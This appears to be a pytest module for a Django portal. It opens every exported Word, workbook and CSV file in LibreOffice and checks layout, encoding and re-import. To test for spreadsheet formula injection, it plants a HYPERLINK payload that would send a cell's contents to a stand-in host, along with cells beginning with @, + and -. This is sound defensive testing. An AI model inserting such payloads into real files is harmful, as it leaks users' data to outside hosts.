"""Every file the portal hands out, opened in the program people open it with (LibreOffice headless).

The Word files (the annual reports, a meeting's agenda and minutes, the action points) are laid out by
LibreOffice as PDFs: A4, every field filled, counts in the right number, no word broken inside a table. The
workbooks go through LibreOffice and back and read the same, with no formula made from data. The CSV files
open with every character right. The files are found from the URL conf: every route that serves a document
is requested in each format it offers, so a new export cannot stay outside the gate. The record is the GMG's
own, with some hostile text added (a formula, cells starting with +, - and @) where people type it.

All files are made and converted once for the module (LibreOffice starts in seconds, so each kind of file is
converted in one call); the tests then read what was found. The last tests feed the same checkers deliberately
broken files, to show that they catch each problem.
"""

from __future__ import annotations

import io
import re
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import pytest
from django.db import transaction
from django.db.models import Count
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from tests import opened_files as opened

# What a person might type that a spreadsheet would run as a formula.
HOSTILE = '=HYPERLINK("http://x/?"&A1,"Click")'
HOSTILE_POINTS = ["@SUM(1+1) agree the agenda", "-2+3 agencies to reply", "+ circulate the draft"]
KINDS = ("docx", "xlsx", "csv")
# The record is loaded once for the module (in `served`, rolled back at its end); the mark has the test database made.
pytestmark = pytest.mark.django_db


def _serves_a_file(route: str) -> bool:
    return "<str:fmt>" in route or route.rstrip("$").endswith(tuple(f".{kind}" for kind in KINDS))


def document_routes() -> dict[str, str]:
    """Every named route of the URL conf that serves a file: a format in the path, or a file extension."""
    found = {}

    def walk(patterns, prefix="", namespace=""):
        for pattern in patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                walk(
                    pattern.url_patterns, route, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                )
            elif isinstance(pattern, URLPattern) and pattern.name and _serves_a_file(route):
                found[f"{namespace}{pattern.name}"] = route

    walk(get_resolver().url_patterns)
    return found


@dataclass
class Served:
    folder: Path
    files: dict[str, list[Path]] = field(default_factory=dict)  # kind -> files
    routes: dict[str, set[str]] = field(default_factory=dict)  # route name -> kinds served
    portal_pdf: Path | None = None
    reimported: dict[str, tuple[bool, bool, list[str]]] = field(default_factory=dict)  # file -> ok, empty, problems


def _requests(plans, term, group, meetings) -> dict[str, list[tuple[str, str]]]:
    """For each route that serves files: (stem, URL) for each object, with {fmt} for the format."""
    return {
        "chairs:report_download": [
            (f"report-{term.agency.acronym}-2014", reverse("chairs:report_download", args=[term.pk, "FMT"]))
        ],
        "groups:group_report_download": [
            (f"group-{group.slug}-2014", reverse("groups:group_report_download", args=[group.slug, 2014, "FMT"]))
        ],
        "meetings:meeting_document": [
            (f"{kind}-{meeting.pk}", reverse("meetings:meeting_document", args=[meeting.pk, kind, "FMT"]))
            for meeting in meetings
            for kind in ("agenda", "minutes")
        ],
        "meetings:action_point_export": [
            ("action-points", reverse("meetings:action_point_export", args=["FMT"]) + "?status=all")
        ],
        "workplans:workplan_export_xlsx": [
            (f"plan-{p.slug}", reverse("workplans:workplan_export_xlsx", args=[p.slug])) for p in plans
        ],
        "workplans:workplan_export_csv": [
            (f"plan-{p.slug}", reverse("workplans:workplan_export_csv", args=[p.slug])) for p in plans
        ],
    }


@pytest.fixture(scope="module")
def served(django_db_setup, django_db_blocker, tmp_path_factory) -> Served:
    import time_machine

    from groups.models import Agency, Group, Person
    from meetings.models import AgendaItem, Meeting
    from record.loader import load_gmg_record
    from reports.selectors import find_term
    from tests.factories import make_action_point, make_activity, make_person
    from workplans import spreadsheets
    from workplans.models import Output, WorkPlan

    result = Served(folder=tmp_path_factory.mktemp("served"))
    with django_db_blocker.unblock(), transaction.atomic(), time_machine.travel(date(2026, 1, 10), tick=False):
        load_gmg_record()
        output = Output.objects.filter(stream__workplan__slug="mawp-2013-2015", year=2014).first()
        ilo = Agency.objects.get(acronym="ILO")
        make_activity(output=output, description=HOSTILE, funding_source="@ILO", lead_agencies=[ilo])
        meeting = Meeting.objects.filter(status=Meeting.Status.HELD, starts_on__year=2014).order_by("starts_on")[0]
        for text in HOSTILE_POINTS:
            make_action_point(meeting, ilo, text=text, due_on=date(2014, 12, 1))
        # An agenda is offered only for a meeting that has one.
        AgendaItem.objects.get_or_create(meeting=meeting, position=1, defaults={"title": "Adoption of the agenda"})
        client = Client()
        client.force_login(make_person("support-files", role=Person.Role.SUPPORT))
        plans = list(WorkPlan.objects.order_by("slug"))
        term = find_term("ILO-2014")
        group = Group.objects.get(short_name="TF on Migration and Decent Work")
        busiest = (
            Meeting.objects.exclude(pk=meeting.pk)
            .annotate(items=Count("agenda_items"))
            .order_by("-items", "-starts_on")[:1]
        )
        requests = _requests(plans, term, group, [meeting, *busiest])
        for name, wanted in requests.items():
            result.routes[name] = set()
            for stem, url in wanted:
                for kind in KINDS:
                    if "FMT" not in url and not url.split("?")[0].endswith(f".{kind}"):
                        continue
                    response = client.get(url.replace("FMT", kind))
                    if response.status_code != 200:
                        continue
                    result.routes[name].add(kind)
                    path = result.folder / kind / f"{stem}.{kind}"
                    path.parent.mkdir(exist_ok=True)
                    path.write_bytes(response.content)
                    result.files.setdefault(kind, []).append(path)
        pdf = client.get(reverse("chairs:report_download", args=[term.pk, "pdf"]))
        result.portal_pdf = result.folder / "portal-report-ILO-2014.pdf"
        result.portal_pdf.write_bytes(pdf.content)
        # The report and the minutes made in French and Spanish, opened with the others (A4, fields, whole words).
        for language in LANGUAGES:
            minutes = reverse("meetings:meeting_document", args=[meeting.pk, "minutes", "docx"])
            for stem, url in (
                (f"report-ILO-2014-{language}", reverse("chairs:report_download", args=[term.pk, "docx"])),
                (f"minutes-{meeting.pk}-{language}", minutes),
            ):
                response = client.get(url, {"language": language})
                assert response.status_code == 200, url
                path = result.folder / "docx" / f"{stem}.docx"
                path.write_bytes(response.content)
                result.files["docx"].append(path)

        # LibreOffice: each kind in one start.
        for kind, target in (("docx", "pdf"), ("xlsx", "xlsx:Calc MS Excel 2007 XML")):
            opened.soffice(result.files[kind], target, result.folder / f"{kind}-opened")
        opened.open_csv_as_a_person_would(result.files["csv"], result.folder / "csv-opened")

        # Each export imported again, and the workbook LibreOffice saved: nothing changes.
        for path in [*result.files["xlsx"], *(p for p in result.files["csv"] if p.stem.startswith("plan-"))]:
            plan = WorkPlan.objects.get(slug=path.stem.removeprefix("plan-"))
            again = [(path.name, path.read_bytes())]
            if path.suffix == ".xlsx":
                again.append(
                    (f"{path.name} saved by LibreOffice", (result.folder / "xlsx-opened" / path.name).read_bytes())
                )
            for label, data in again:
                try:
                    preview = spreadsheets.preview_import(plan, data)
                except spreadsheets.SpreadsheetRefused as refused:
                    result.reimported[label] = (False, False, refused.reasons)
                else:
                    changes = [f"{c.label}: {c.changes}" for c in preview.changed]
                    result.reimported[label] = (
                        preview.ok,
                        preview.is_empty,
                        [e.message for e in preview.errors] + changes,
                    )
        transaction.set_rollback(True)
    return result


# Routes serving files this gate does not open, and the test that opens them as their readers do.
OPENED_ELSEWHERE = {
    # The public copy of a chair's annual report: the same PDF as the portal's, read by poppler's pdftotext there.
    "website:report_file": "tests/website/test_publishing.py::test_an_annual_report_is_published_once_submitted",
}


def test_every_route_that_serves_a_file_is_in_the_gate():
    names = set(document_routes()) - set(OPENED_ELSEWHERE)
    gated = {
        "chairs:report_download",
        "groups:group_report_download",
        "meetings:meeting_document",
        "meetings:action_point_export",
        "workplans:workplan_export_xlsx",
        "workplans:workplan_export_csv",
    }
    assert names == gated, f"a route serving files is not opened by this gate: {sorted(names ^ gated)}"


def test_each_route_serves_its_kinds_and_each_kind_is_opened(served):
    assert served.routes == {
        "chairs:report_download": {"docx"},
        "groups:group_report_download": {"docx"},
        "meetings:meeting_document": {"docx"},
        "meetings:action_point_export": {"docx", "csv"},
        "workplans:workplan_export_xlsx": {"xlsx"},
        "workplans:workplan_export_csv": {"csv"},
    }
    assert len(served.files["docx"]) >= 6 and len(served.files["xlsx"]) >= 2


def test_every_word_file_opens_as_a4_with_filled_fields_right_counts_and_whole_words(served):
    problems = []
    for path in served.files["docx"]:
        problems += opened.word_problems(path, served.folder / "docx-opened" / f"{path.stem}.pdf")
    assert problems == []


def contents(text: str) -> list[tuple[str, int]]:
    """The contents page's entries as printed: heading, dotted leader, page number."""
    return [(m.group(1), int(m.group(2))) for m in re.finditer(r"(?m)^(\S.*?)\s*\.{4,}\s*(\d+)$", text)]


def test_the_ilo_2014_report_in_libreoffice_reads_as_the_portals_pdf(served):
    converted = served.folder / "docx-opened" / "report-ILO-2014.pdf"
    word, pdf = opened.pdf_text(converted), opened.pdf_text(served.portal_pdf)
    assert opened.pdf_page_size(converted) == pytest.approx(opened.pdf_page_size(served.portal_pdf), abs=1)
    # The same title page, and the same contents with their page numbers filled in.
    title = "Annual report of the Chair of the Global Migration Group, 2014 International Labour Organization (ILO)"
    assert title in " ".join(word.split()) and title in " ".join(pdf.split())
    entries = contents(word)
    assert [heading for heading, _ in entries] == [heading for heading, _ in contents(pdf)]
    assert [heading for heading, _ in entries][:3] == ["Introduction", "Highlights", "Progress of the work plan"]
    pages = [page for _, page in entries]
    assert pages == sorted(pages) and pages[0] == 3
    # The sentences where there is nothing to list, and counts in words, as the PDF writes them.
    for sentence in ("The record shows no decision taken during the term.", "The chair's introduction has not"):
        assert sentence in word and sentence in pdf
    counts = re.findall(r"\d+ activit(?:y|ies)(?:, \d+ overdue)?\.", " ".join(word.split()))
    assert counts and counts == re.findall(r"\d+ activit(?:y|ies)(?:, \d+ overdue)?\.", " ".join(pdf.split()))


# The fixed words of the files in each language, as LibreOffice shows them; the record's words stay as written.
HEADINGS = {
    "fr": ("Rapport annuel de la présidence", "Introduction", "Avancement du plan de travail", "Compte rendu"),
    "es": ("Informe anual de la presidencia", "Introducción", "Avance del plan de trabajo", "Acta"),
}
LANGUAGES = tuple(HEADINGS)


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_report_and_the_minutes_asked_in_french_or_spanish_open_in_it(served, language):
    report = " ".join(opened.pdf_text(served.folder / "docx-opened" / f"report-ILO-2014-{language}.pdf").split())
    minutes_file = next(p for p in served.files["docx"] if p.stem.startswith("minutes-") and p.stem.endswith(language))
    minutes = " ".join(opened.pdf_text(served.folder / "docx-opened" / f"{minutes_file.stem}.pdf").split())
    title, introduction, progress, minutes_heading = HEADINGS[language]
    assert title.lower() in report.lower() and introduction in report and progress.lower() in report.lower()
    assert minutes_heading.lower() in minutes.lower()
    for english in ("Annual report of the Chair", "Progress of the work plan", "Highlights", "Contents"):
        assert english not in report
    assert "International Labour Organization (ILO)" in report  # the record's name, as written


def test_every_workbook_reads_back_unchanged_from_libreoffice_with_no_formula_from_data(served):
    problems = []
    for path in served.files["xlsx"]:
        problems += opened.xlsx_problems(path, served.folder / "xlsx-opened" / path.name)
    assert problems == []
    mawp = opened.workbook_cells(served.folder / "xlsx-opened" / "plan-mawp-2013-2015.xlsx")
    assert HOSTILE in [cell.value for cell in mawp.values()]


def test_each_export_and_the_workbook_libreoffice_saved_import_with_no_change(served):
    assert len(served.reimported) == 3 * len(served.files["xlsx"])
    for label, (ok, empty, problems) in served.reimported.items():
        assert (ok, empty, problems) == (True, True, []), label


def test_every_csv_opens_with_every_character_right(served):
    problems = []
    for path in served.files["csv"]:
        problems += opened.csv_problems(path, served.folder / "csv-opened" / f"{path.stem}.xlsx")
    assert problems == []
    text = (served.folder / "csv" / "plan-mawp-2013-2015.csv").read_bytes().decode("utf-8-sig")
    assert "–" in text and "’" in text  # the MAWP's en dashes and apostrophes are among what was checked


def test_no_csv_cell_starts_a_formula(served):
    import csv

    for path in served.files["csv"]:
        for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))):
            assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], path.name


# -- the gate fails when what it guards is broken ---------------------------------------------------------------


def test_the_checkers_report_a_letter_sized_word_file_with_an_unfilled_field_broken_words_and_bad_xml(tmp_path):
    import docx
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn
    from docx.shared import Inches

    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.page_height = Inches(8.5), Inches(11)
    paragraph = document.add_paragraph().add_run()
    for kind, text in (("begin", None), (None, 'TOC \\o "1-2" \\h'), ("separate", None), ("t", None), ("end", None)):
        if kind == "t":
            element = OxmlElement("w:t")
            element.text = "Right-click and choose Update Field to show the contents."
        elif kind:
            element = OxmlElement("w:fldChar")
            element.set(qn("w:fldCharType"), kind)
        else:
            element = OxmlElement("w:instrText")
            element.text = text
        paragraph._r.append(element)
    counted = document.add_paragraph("Led by ILO. 1 activities, 0 overdue.")
    counted.alignment = 1
    counted._p.pPr.append(OxmlElement("w:pBdr"))  # after w:jc: out of order
    table = document.add_table(rows=2, cols=8)
    for cell, text in zip(table.rows[1].cells, ["Completed", "Handbook"] * 4, strict=True):
        cell.text = text
    for row in table.rows:
        for cell in row.cells:
            cell.width = Inches(0.35)
    path = tmp_path / "broken.docx"
    document.save(str(path))
    opened.soffice([path], "pdf", tmp_path)
    problems = " | ".join(opened.word_problems(path, tmp_path / "broken.pdf"))
    assert "not A4" in problems
    assert "Update Field" in problems and "a field left for the reader to update" in problems
    assert "“1 activities”" in problems
    assert "properties out of order, which Word calls damaged: word/document.xml: w:pPr holds jc pBdr" in problems
    assert "words broken inside table cells: Completed, Handbook" in problems


def test_the_checkers_report_a_csv_without_bom_and_a_workbook_with_a_data_formula(tmp_path):
    from openpyxl import Workbook

    plain = tmp_path / "plain.csv"
    plain.write_bytes("Timeframe,Lead\nMay – September 2013,UN Women’s office\n".encode())
    book = Workbook()
    book.active.append(["Activities", "Cost"])
    book.active.append([HOSTILE, 75000])
    workbook = tmp_path / "formula.xlsx"
    book.save(str(workbook))
    opened.open_csv_as_a_person_would([plain], tmp_path / "opened")
    opened.soffice([workbook], "xlsx:Calc MS Excel 2007 XML", tmp_path / "opened")
    csv_found = " | ".join(opened.csv_problems(plain, tmp_path / "opened" / "plain.xlsx"))
    assert "no byte-order mark" in csv_found and "May â€“ September 2013" in csv_found
    xlsx_found = " | ".join(opened.xlsx_problems(workbook, tmp_path / "opened" / "formula.xlsx"))
    assert "Sheet!A2: a formula made from data" in xlsx_found
